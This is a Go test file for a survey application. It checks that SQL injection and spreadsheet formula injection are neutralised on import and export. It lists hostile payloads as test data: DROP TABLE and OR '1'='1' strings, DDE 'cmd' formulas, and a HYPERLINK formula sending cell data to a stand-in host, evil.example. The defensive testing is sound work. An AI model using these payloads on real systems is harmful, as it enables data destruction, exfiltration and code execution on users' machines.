package exports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"
	"github.com/surveybot/surveybot/dialogs"
	"github.com/surveybot/surveybot/exports"
	"github.com/surveybot/surveybot/store"
	"github.com/surveybot/surveybot/store/storetest"
	"github.com/xuri/excelize/v2"
)

// injections are texts an attacker types or puts into an import file,
// hoping one of them reaches SQL as code.
var injections = []string{
	`'); DROP TABLE answers;--`,
	`Robert'); DROP TABLE responses; --`,
	`x' OR '1'='1`,
	`"; DELETE FROM scores; --`,
	`1; UPDATE responses SET status='erased'`,
	`'; SELECT pg_sleep(10); --`,
	`\'; DROP TABLE identities; /*`,
}

// securityTables are the tables an injection would go for.
var securityTables = []string{"questionnaires", "chambers", "respondents", "identities", "responses", "answers", "scores", "invitations", "input_keys", "api_keys"}

// rawDB is a store and a plain SQL connection to the same database, to
// look at the tables behind the store's back.
type rawDB struct {
	db  *store.DB
	sql *sqlx.DB
}

// securityDBs opens every database the tests can use (SQLite always,
// PostgreSQL when enabled) with the chamber questionnaire registered.
func securityDBs(t *testing.T, q *dialogs.Questionnaire) map[string]rawDB {
	t.Helper()
	dsns := map[string]string{"sqlite": "sqlite:" + filepath.Join(t.TempDir(), "surveybot.db")}
	if storetest.ServersEnabled(t) {
		dsns["postgres"] = storetest.PostgresDSN(t)
	}
	out := map[string]rawDB{}
	for name, dsn := range dsns {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		db, err := store.Open(ctx, dsn)
		if err != nil {
			cancel()
			t.Fatal(err)
		}
		t.Cleanup(func() { db.Close() })
		if _, err := db.Migrate(ctx); err != nil {
			cancel()
			t.Fatal(err)
		}
		if err := db.RegisterQuestionnaire(ctx, q.Ref(), []byte(chamberFile)); err != nil {
			cancel()
			t.Fatal(err)
		}
		cancel()
		driver, source := "sqlite", strings.TrimPrefix(dsn, "sqlite:")
		if name == "postgres" {
			driver, source = "pgx", dsn
		}
		raw, err := sqlx.Open(driver, source)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { raw.Close() })
		out[name] = rawDB{db: db, sql: raw}
	}
	return out
}

// count counts a table's rows; it fails the test if the table is gone.
func (r rawDB) count(t *testing.T, table string) int {
	t.Helper()
	var n int
	if err := r.sql.Get(&n, "SELECT COUNT(*) FROM "+table); err != nil {
		t.Fatalf("table %s: %v", table, err)
	}
	return n
}

func (r rawDB) counts(t *testing.T) map[string]int {
	t.Helper()
	out := map[string]int{}
	for _, tb := range securityTables {
		out[tb] = r.count(t, tb)
	}
	return out
}

// storedNotes returns every stored x_note answer, read with plain SQL.
func (r rawDB) storedNotes(t *testing.T) []string {
	t.Helper()
	var out []string
	if err := r.sql.Select(&out, "SELECT value FROM answers WHERE item_id = 'x_note' ORDER BY value"); err != nil {
		t.Fatal(err)
	}
	return out
}

func chamberQuestionnaire(t *testing.T) *dialogs.Questionnaire {
	t.Helper()
	q, err := dialogs.Parse("hwk-test.yaml", []byte(chamberFile), dialogs.CoreResolver)
	if err != nil {
		t.Fatal(err)
	}
	return q
}

// answerWithNote runs a whole dialog in the engine and types note as the
// free text answer, as a respondent would.
func answerWithNote(t *testing.T, q *dialogs.Questionnaire, seed uint64, note string) dialogs.State {
	t.Helper()
	a := answerer{rng: newRand(seed), chamber: "hwk_h", text: note}
	st := a.answer(t, q)
	if got := st.Answers["x_note"]; got.NA || got.Value != note {
		// The answerer picked "keine Angabe" at random: type the text over it.
		st.Answers["x_note"] = dialogs.Answer{Value: note}
	}
	return st
}

// TestSecuritySQLInjectionStoredAsData types SQL into a free text answer
// and puts it into the cells of an import file: free text is stored
// verbatim as data, code cells reject the file with the value quoted, and
// no table loses a row or disappears, on SQLite and PostgreSQL.
func TestSecuritySQLInjectionStoredAsData(t *testing.T) {
	q := chamberQuestionnaire(t)
	ctx := context.Background()
	for name, r := range securityDBs(t, q) {
		t.Run(name, func(t *testing.T) {
			// Through the dialog, as a respondent types it.
			for i, text := range injections {
				complete(t, r.db, q, answerWithNote(t, q, uint64(100+i), text))
			}
			want := slices.Sorted(slices.Values(injections))
			if got := r.storedNotes(t); !slices.Equal(got, want) {
				t.Fatalf("stored free text\n got %q\nwant %q", got, want)
			}
			before := r.counts(t)
			if before["responses"] != len(injections) || before["answers"] == 0 || before["scores"] == 0 {
				t.Fatalf("tables after the dialogs: %v", before)
			}

			// In an import file: every injection in the free text column is
			// imported verbatim.
			var rows []map[string]string
			for _, text := range injections {
				rows = append(rows, business(q, map[string]string{"x_note": text}))
			}
			rep, err := exports.ImportCSV(ctx, q, strings.NewReader(quotedImportFile(t, q, nil, rows...)), r.db, exports.ImportOptions{})
			if err != nil || rep.Imported != len(injections) {
				t.Fatalf("import of SQL as free text: %v %+v", err, rep)
			}
			want = slices.Sorted(slices.Values(append(slices.Clone(injections), injections...)))
			if got := r.storedNotes(t); !slices.Equal(got, want) {
				t.Fatalf("stored free text after the import\n got %q\nwant %q", got, want)
			}
			after := r.counts(t)
			if after["responses"] != 2*len(injections) {
				t.Errorf("%d responses after importing %d rows onto %d, want %d", after["responses"], len(injections), len(injections), 2*len(injections))
			}

			// In code columns, the chamber option and the week: the file is
			// rejected, each value quoted as what it is, and nothing changes.
			before = after
			for _, col := range []string{"sector", "chamber", "postcode", "week"} {
				for _, text := range injections {
					row := business(q, nil)
					row[col] = text
					file := quotedImportFile(t, q, []string{"week"}, row)
					rep, err := exports.ImportCSV(ctx, q, strings.NewReader(file), r.db, exports.ImportOptions{})
					if !errors.Is(err, exports.ErrRejected) || rep.Imported != 0 || len(rep.Problems) == 0 {
						t.Fatalf("%s = %q: err %v, report %+v, want the file rejected", col, text, err, rep)
					}
					if msg := rep.Problems[0].String(); !strings.Contains(msg, text) {
						t.Errorf("%s = %q: problem %q does not quote the value", col, text, msg)
					}
				}
			}
			// --chamber with SQL in it is refused before anything is read.
			_, err = exports.ImportCSV(ctx, q, strings.NewReader(importFile(t, q, ";", business(q, nil))), r.db,
				exports.ImportOptions{Chamber: `hwk_h' OR '1'='1`})
			if !errors.Is(err, exports.ErrRejected) {
				t.Errorf("an SQL chamber option: %v, want ErrRejected", err)
			}
			if after := r.counts(t); !maps.Equal(after, before) {
				t.Errorf("rejected imports changed the tables:\nbefore %v\n after %v", before, after)
			}

			// The export reads them back as the text typed, and a chamber
			// filter with SQL in it selects nothing.
			var buf bytes.Buffer
			if err := exports.WriteCSV(&buf, q, source(r.db, store.CompletedFilter{Questionnaire: q.Ref()})); err != nil {
				t.Fatal(err)
			}
			recs := readCSV(t, buf.Bytes())
			col := column(t, recs[0], "x_note")
			var exported []string
			for _, rec := range recs[1:] {
				exported = append(exported, rec[col])
			}
			slices.Sort(exported)
			if len(exported) != 2*len(injections) || !slices.Equal(exported, want) {
				t.Errorf("exported free text\n got %q\nwant %q", exported, want)
			}
			buf.Reset()
			if err := exports.WriteCSV(&buf, q, source(r.db, store.CompletedFilter{Questionnaire: q.Ref(), Chamber: `x' OR '1'='1`})); err != nil {
				t.Fatal(err)
			}
			if recs := readCSV(t, buf.Bytes()); len(recs) != 1 {
				t.Errorf("a chamber filter with SQL in it exported %d rows, want none", len(recs)-1)
			}
		})
	}
}

// quotedImportFile is importFile written by a CSV writer, so values with
// ";" and quotes in them stay in their cells; columns are the items, then
// any extra ones the rows name (such as week).
func quotedImportFile(t *testing.T, q *dialogs.Questionnaire, extra []string, rows ...map[string]string) string {
	t.Helper()
	var cols []string
	for _, it := range q.Items() {
		cols = append(cols, it.ID)
	}
	cols = append(cols, extra...)
	var b strings.Builder
	b.WriteString("\uFEFF")
	w := csv.NewWriter(&b)
	w.Comma, w.UseCRLF = ';', true
	_ = w.Write(cols)
	for _, row := range rows {
		vals := make([]string, len(cols))
		for i, c := range cols {
			vals[i] = row[c]
		}
		_ = w.Write(vals)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// formulaTexts start with every character a spreadsheet reads as the
// start of a formula (=, +, -, @, tab, carriage return), some after
// nothing else, some as real attacks.
var formulaTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"klick")`,
	`=cmd|' /C calc'!A0`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	"=",
	"+",
	"-",
	"@",
}

// TestSecurityFormulaInjectionEveryLeadingCharacter exports free text that
// starts with each formula character: in CSV every such cell gets a
// leading apostrophe (and nothing else does); in XLSX every cell is an
// inline string holding the text as typed, never a formula.
func TestSecurityFormulaInjectionEveryLeadingCharacter(t *testing.T) {
	q := chamberQuestionnaire(t)
	db := storetest.SQLite(t)
	if err := db.RegisterQuestionnaire(context.Background(), q.Ref(), []byte(chamberFile)); err != nil {
		t.Fatal(err)
	}
	texts := append(slices.Clone(formulaTexts), "harmlos", "a=1", "'quoted", "1-2")
	for i, text := range texts {
		// Stored as it stands: the engine trims what is typed, but an
		// export must be safe whatever the database holds.
		st := answerWithNote(t, q, uint64(200+i), "placeholder")
		st.Answers["x_note"] = dialogs.Answer{Value: text}
		complete(t, db, q, st)
	}
	src := source(db, store.CompletedFilter{Questionnaire: q.Ref()})

	var buf bytes.Buffer
	if err := exports.WriteCSV(&buf, q, src); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	col := column(t, recs[0], "x_note")
	var cells []string
	for _, rec := range recs[1:] {
		cells = append(cells, rec[col])
	}
	for _, text := range texts {
		want := text
		if slices.Contains(formulaTexts, text) {
			want = "'" + text
		}
		// encoding/csv writing CRLF lines drops a lone CR in a cell.
		want = strings.ReplaceAll(want, "\r", "")
		if !slices.Contains(cells, want) {
			t.Errorf("CSV: no cell %q for the answer %q (cells %q)", want, text, cells)
		}
	}
	for _, c := range cells {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("CSV cell %q starts a formula", c)
		}
	}

	buf.Reset()
	if err := exports.WriteXLSX(&buf, q, src); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(exports.SheetAnswers)
	if err != nil {
		t.Fatal(err)
	}
	xcol := slices.Index(rows[0], "x_note")
	if xcol < 0 {
		t.Fatalf("no x_note column in %v", rows[0])
	}
	var values []string
	for r := 2; r <= len(rows); r++ {
		name, _ := excelize.CoordinatesToCellName(xcol+1, r)
		formula, err := f.GetCellFormula(exports.SheetAnswers, name)
		if err != nil || formula != "" {
			t.Errorf("XLSX %s: formula %q (%v)", name, formula, err)
		}
		typ, err := f.GetCellType(exports.SheetAnswers, name)
		if err != nil || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
			t.Errorf("XLSX %s: cell type %v (%v), want a string", name, typ, err)
		}
		v, _ := f.GetCellValue(exports.SheetAnswers, name)
		values = append(values, v)
	}
	for _, text := range texts {
		if !slices.Contains(values, text) {
			t.Errorf("XLSX: no cell holding %q as typed (cells %q)", text, values)
		}
	}
}
